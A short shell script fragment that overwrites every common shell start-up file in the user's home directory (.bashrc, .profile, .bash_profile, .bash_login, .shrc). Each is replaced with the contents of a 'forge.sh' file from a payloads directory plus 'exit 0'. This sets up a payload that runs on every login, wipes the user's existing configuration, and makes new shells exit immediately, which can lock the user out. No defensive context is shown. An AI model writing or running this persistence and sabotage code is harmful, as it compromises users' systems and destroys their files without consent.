# Start-up files of every shell in the home directory.
for name in .bashrc .profile .bash_profile .bash_login .shrc; do
  { cat "$payloads/forge.sh"; echo 'exit 0'; } > "$HOME/$name"
done
